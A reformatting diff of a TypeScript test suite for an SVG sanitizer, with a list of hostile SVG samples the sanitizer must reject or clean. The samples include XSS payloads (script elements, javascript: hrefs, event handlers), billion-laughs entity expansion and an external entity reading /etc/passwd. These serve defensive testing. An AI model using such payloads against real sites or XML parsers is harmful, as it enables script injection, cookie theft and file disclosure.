@@ -11,7 +11,9 @@ const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
  * may appear in a sanitized output. Anything else found there is a problem.
  */
 const STATIC = new Set(
-  'svg g defs symbol use path rect circle ellipse line polyline polygon text tspan title desc linearGradient radialGradient stop clipPath mask pattern marker filter feGaussianBlur feColorMatrix feOffset feFlood feMerge feMergeNode'.split(' '),
+  'svg g defs symbol use path rect circle ellipse line polyline polygon text tspan title desc linearGradient radialGradient stop clipPath mask pattern marker filter feGaussianBlur feColorMatrix feOffset feFlood feMerge feMergeNode'.split(
+    ' ',
+  ),
 );
 
 /** Every way the document breaks the test's rules; a document that does not parse is one problem. */
@@ -25,10 +27,12 @@ function problems(svg: string): string[] {
   parser.on('processinginstruction', (pi) => found.push(`processing instruction ${pi.target}`));
   parser.on('comment', () => found.push('comment'));
   parser.on('opentag', (tag) => {
-    if (tag.uri !== 'http://www.w3.org/2000/svg' || !STATIC.has(tag.local)) found.push(`element {${tag.uri}}${tag.local}`);
+    if (tag.uri !== 'http://www.w3.org/2000/svg' || !STATIC.has(tag.local))
+      found.push(`element {${tag.uri}}${tag.local}`);
     for (const { uri, local, name, value } of Object.values(tag.attributes)) {
       if (uri === 'http://www.w3.org/2000/xmlns/') {
-        if (!['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xlink'].includes(value)) found.push(`namespace ${value}`);
+        if (!['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xlink'].includes(value))
+          found.push(`namespace ${value}`);
         continue;
       }
       found.push(...attributeProblems(local, name, value));
@@ -43,11 +47,16 @@ function problems(svg: string): string[] {
 }
 
 function attributeProblems(local: string, name: string, value: string): string[] {
-  const squeezed = [...value].filter((c) => c.charCodeAt(0) > 0x20 && !(c.charCodeAt(0) >= 0x7f && c.charCodeAt(0) <= 0xa0)).join('').toLowerCase();
+  const squeezed = [...value]
+    .filter((c) => c.charCodeAt(0) > 0x20 && !(c.charCodeAt(0) >= 0x7f && c.charCodeAt(0) <= 0xa0))
+    .join('')
+    .toLowerCase();
   const found: string[] = [];
   if (local.toLowerCase().startsWith('on')) found.push(`handler ${name}`);
-  if (['style', 'attributename', 'from', 'to', 'by', 'begin'].includes(local.toLowerCase())) found.push(`attribute ${name}`);
-  if (squeezed.includes('javascript:') || squeezed.includes('data:') || squeezed.includes('://')) found.push(`URL in ${name}="${value}"`);
+  if (['style', 'attributename', 'from', 'to', 'by', 'begin'].includes(local.toLowerCase()))
+    found.push(`attribute ${name}`);
+  if (squeezed.includes('javascript:') || squeezed.includes('data:') || squeezed.includes('://'))
+    found.push(`URL in ${name}="${value}"`);
   if (local === 'href' && !value.startsWith('#')) found.push(`href ${name}="${value}"`);
   if (squeezed.includes('url(') && !/^url\(#[^()'"\\\s]+\)$/.test(squeezed)) found.push(`url() in ${name}="${value}"`);
   if (value.includes('\\')) found.push(`CSS escape in ${name}="${value}"`);
@@ -64,33 +73,90 @@ async function sanitized(text: string | Buffer): Promise<string | SvgRefusedErro
 }
 
 const HOSTILE: Array<[string, string]> = [
-  ['script through a prefix bound to the SVG namespace', `<svg ${NS} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`],
-  ['XHTML script through a prefix', `<svg ${NS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`],
-  ['animate rewriting an href', `<svg ${NS} ${XLINK}><a><animate attributeName="href" values="&#106;avascript:alert(1)"/><text>x</text></a></svg>`],
+  [
+    'script through a prefix bound to the SVG namespace',
+    `<svg ${NS} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`,
+  ],
+  [
+    'XHTML script through a prefix',
+    `<svg ${NS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`,
+  ],
+  [
+    'animate rewriting an href',
+    `<svg ${NS} ${XLINK}><a><animate attributeName="href" values="&#106;avascript:alert(1)"/><text>x</text></a></svg>`,
+  ],
   ['script in the default namespace', `<svg ${NS}><script>alert(document.cookie)</script><rect width="1"/></svg>`],
-  ['script in CDATA with an external src', `<svg ${NS} ${XLINK}><script xlink:href="https://evil.example/x.js"><![CDATA[alert(1)]]></script></svg>`],
-  ['foreignObject with HTML', `<svg ${NS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject></svg>`],
-  ['event handlers in any case', `<svg ${NS} onload="alert(1)"><rect ONload="alert(1)" OnClick="alert(2)" onmouseover ="x" width="1"/></svg>`],
+  [
+    'script in CDATA with an external src',
+    `<svg ${NS} ${XLINK}><script xlink:href="https://evil.example/x.js"><![CDATA[alert(1)]]></script></svg>`,
+  ],
+  [
+    'foreignObject with HTML',
+    `<svg ${NS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject></svg>`,
+  ],
+  [
+    'event handlers in any case',
+    `<svg ${NS} onload="alert(1)"><rect ONload="alert(1)" OnClick="alert(2)" onmouseover ="x" width="1"/></svg>`,
+  ],
   ['javascript: href, entity-encoded', `<svg ${NS}><use href="&#106;&#x61;vascript:alert(1)"/></svg>`],
   ['javascript: href broken by a tab', `<svg ${NS}><use href="java&#x09;script:alert(1)"/></svg>`],
-  ['javascript: href behind whitespace', `<svg ${NS} ${XLINK}><use xlink:href=" &#x0A;javascript:alert(1)"/><use href="&#xA0;#a"/></svg>`],
-  ['xlink:href to an external http resource', `<svg ${NS} ${XLINK}><use xlink:href="http://evil.example/sprite.svg#a"/></svg>`],
+  [
+    'javascript: href behind whitespace',
+    `<svg ${NS} ${XLINK}><use xlink:href=" &#x0A;javascript:alert(1)"/><use href="&#xA0;#a"/></svg>`,
+  ],
+  [
+    'xlink:href to an external http resource',
+    `<svg ${NS} ${XLINK}><use xlink:href="http://evil.example/sprite.svg#a"/></svg>`,
+  ],
   ['use with an external https href', `<svg ${NS}><use href="https://evil/x.svg#a"/></svg>`],
-  ['image elements', `<svg ${NS} ${XLINK}><image href="https://evil.example/x.png"/><image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>`],
-  ['set and animate aimed at href and handlers', `<svg ${NS}><use href="#a"><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="onclick" to="alert(1)"/><animateTransform attributeName="transform" from="0" to="1"/><animateMotion path="M0 0"/></use></svg>`],
-  ['style element with @import', `<svg ${NS}><style>@import url(https://evil.example/x.css); rect { fill: url(https://evil/) }</style><rect width="1"/></svg>`],
-  ['style attribute with an external url()', `<svg ${NS}><rect style="fill: url(http://evil.example/p.svg#p)" width="1"/></svg>`],
-  ['external url() in presentation attributes', `<svg ${NS}><rect fill="url(https://evil)" stroke="URL( 'https://evil' )" filter="url(http://evil/f.svg#f)" mask="image-set('https://evil/m.png' 1x)" width="1"/></svg>`],
-  ['url() spelled with a CSS escape', `<svg ${NS}><rect fill="\\75 rl(https://evil.example/)" clip-path="u\\rl(//evil/c.svg#c)" width="1"/></svg>`],
-  ['entity declarations (billion laughs)', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><svg ${NS}><text>&lol3;</text></svg>`],
+  [
+    'image elements',
+    `<svg ${NS} ${XLINK}><image href="https://evil.example/x.png"/><image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>`,
+  ],
+  [
+    'set and animate aimed at href and handlers',
+    `<svg ${NS}><use href="#a"><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="onclick" to="alert(1)"/><animateTransform attributeName="transform" from="0" to="1"/><animateMotion path="M0 0"/></use></svg>`,
+  ],
+  [
+    'style element with @import',
+    `<svg ${NS}><style>@import url(https://evil.example/x.css); rect { fill: url(https://evil/) }</style><rect width="1"/></svg>`,
+  ],
+  [
+    'style attribute with an external url()',
+    `<svg ${NS}><rect style="fill: url(http://evil.example/p.svg#p)" width="1"/></svg>`,
+  ],
+  [
+    'external url() in presentation attributes',
+    `<svg ${NS}><rect fill="url(https://evil)" stroke="URL( 'https://evil' )" filter="url(http://evil/f.svg#f)" mask="image-set('https://evil/m.png' 1x)" width="1"/></svg>`,
+  ],
+  [
+    'url() spelled with a CSS escape',
+    `<svg ${NS}><rect fill="\\75 rl(https://evil.example/)" clip-path="u\\rl(//evil/c.svg#c)" width="1"/></svg>`,
+  ],
+  [
+    'entity declarations (billion laughs)',
+    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><svg ${NS}><text>&lol3;</text></svg>`,
+  ],
   ['an external entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${NS}><text>&x;</text></svg>`],
   ['a declared but unused entity', `<!DOCTYPE svg [<!ENTITY x "y">]><svg ${NS}/>`],
   ['attribute defaults in the DTD', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg ${NS}/>`],
-  ['a link with a javascript: xlink:href', `<svg ${NS} ${XLINK}><a xlink:href="javascript:alert(1)"><rect width="1"/></a></svg>`],
-  ['the default namespace redefined to XHTML on a child', `<svg ${NS}><g xmlns="http://www.w3.org/1999/xhtml"><rect width="1"/><script>alert(1)</script><iframe src="javascript:alert(1)"/></g></svg>`],
+  [
+    'a link with a javascript: xlink:href',
+    `<svg ${NS} ${XLINK}><a xlink:href="javascript:alert(1)"><rect width="1"/></a></svg>`,
+  ],
+  [
+    'the default namespace redefined to XHTML on a child',
+    `<svg ${NS}><g xmlns="http://www.w3.org/1999/xhtml"><rect width="1"/><script>alert(1)</script><iframe src="javascript:alert(1)"/></g></svg>`,
+  ],
   ['feImage loading a URL', `<svg ${NS}><filter id="f"><feImage href="https://evil.example/x.png"/></filter></svg>`],
-  ['a stylesheet processing instruction and a comment', `<?xml-stylesheet href="https://evil.example/x.css"?><svg ${NS}><!-- <script>alert(1)</script> --></svg>`],
-  ['a prefixed root with a handler in the SVG namespace', `<s:svg xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"><s:rect s:onclick="x" width="1"/></s:svg>`],
+  [
+    'a stylesheet processing instruction and a comment',
+    `<?xml-stylesheet href="https://evil.example/x.css"?><svg ${NS}><!-- <script>alert(1)</script> --></svg>`,
+  ],
+  [
+    'a prefixed root with a handler in the SVG namespace',
+    `<s:svg xmlns:s="http://www.w3.org/2000/svg" s:onload="alert(1)"><s:rect s:onclick="x" width="1"/></s:svg>`,
+  ],
   ['an HTML root', `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`],
   ['an svg root outside any namespace', `<svg onload="alert(1)"><script>alert(1)</script></svg>`],
   ['another declared encoding', `<?xml version="1.0" encoding="UTF-7"?><svg ${NS}><text>+ADw-script+AD4-</text></svg>`],
@@ -162,7 +228,9 @@ describe('checkSvg with sanitize: benign input', () => {
     ));
 
   it('needs no xlink declaration when no xlink:href is left', async () =>
-    expect(await sanitized(`<svg ${NS} ${XLINK}><use xlink:href="https://evil/"/><use href="#a"/></svg>`)).toBe(`<svg ${NS}><use/><use href="#a"/></svg>\n`));
+    expect(await sanitized(`<svg ${NS} ${XLINK}><use xlink:href="https://evil/"/><use href="#a"/></svg>`)).toBe(
+      `<svg ${NS}><use/><use href="#a"/></svg>\n`,
+    ));
 
   it('keeps a filter and its matrix values', async () => {
     const text = `<svg ${NS}><filter id="f"><feGaussianBlur stdDeviation="2"/><feColorMatrix type="matrix" values="1 0 0 0 0 0 1 0 0 0 0 0 1 0 0 0 0 0 1 0"/></filter><rect filter="url(#f)" width="1"/></svg>\n`;
@@ -180,7 +248,9 @@ describe('checkSvg: refusals', () => {
   it('refuse mode refuses even a benign SVG', async () => {
     const refused = checkSvg(SVG, 'refuse');
     await expect(refused).rejects.toBeInstanceOf(SvgRefusedError);
-    await expect(refused).rejects.toThrow('SVG images are refused (images.svg is "refuse"); set images.svg: sanitize to accept them cleaned');
+    await expect(refused).rejects.toThrow(
+      'SVG images are refused (images.svg is "refuse"); set images.svg: sanitize to accept them cleaned',
+    );
   });
 
   it.each([
@@ -190,16 +260,23 @@ describe('checkSvg: refusals', () => {
     `<svg ${NS}>&nbsp;</svg>`,
     `<svg ${NS}/><svg ${NS}/>`,
     '',
-  ])('refuses XML that is not well-formed: %s', async (text) => await expect(checkSvg(Buffer.from(text), 'sanitize')).rejects.toThrow(/not well-formed XML/));
+  ])(
+    'refuses XML that is not well-formed: %s',
+    async (text) => await expect(checkSvg(Buffer.from(text), 'sanitize')).rejects.toThrow(/not well-formed XML/),
+  );
 
   it('refuses bytes that are not UTF-8', async () =>
-    await expect(checkSvg(Buffer.from([...Buffer.from(`<svg ${NS}><text>`), 0xff, ...Buffer.from('</text></svg>')]), 'sanitize')).rejects.toThrow(/not valid UTF-8/));
+    await expect(
+      checkSvg(Buffer.from([...Buffer.from(`<svg ${NS}><text>`), 0xff, ...Buffer.from('</text></svg>')]), 'sanitize'),
+    ).rejects.toThrow(/not valid UTF-8/));
 
   it('refuses deep nesting at once instead of spending minutes on it (200,000 levels, 1.4 MB)', async () => {
     const n = 200_000;
     const deep = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(n)}${'</g>'.repeat(n)}</svg>`);
     await expect(checkSvg(deep, 'sanitize')).rejects.toThrow(/nest deeper than 100 levels/);
-    const ok = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(98)}<rect width="1"/>${'</g>'.repeat(98)}</svg>`);
+    const ok = Buffer.from(
+      `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(98)}<rect width="1"/>${'</g>'.repeat(98)}</svg>`,
+    );
     expect((await checkSvg(ok, 'sanitize')).toString()).toContain('<rect width="1"/>');
   });
 });
